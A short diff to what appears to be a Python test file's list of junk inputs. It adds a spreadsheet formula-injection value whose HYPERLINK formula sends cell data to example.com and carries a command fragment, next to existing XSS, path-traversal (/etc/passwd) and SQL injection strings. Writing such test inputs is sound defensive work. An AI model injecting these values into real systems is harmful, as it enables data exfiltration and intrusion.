@@ -29,6 +29,7 @@ JUNK: tuple[Any, ...] = (
     True,
     "²",
     "<script>alert(1)</script>",
+    """=HYPERLINK("https://example.com/?"&A1,"x")\t+1|' /C x'!A0,@SUM(1)""",
     "../../etc/passwd",
     "' OR 1=1 --",
     "{deal}",
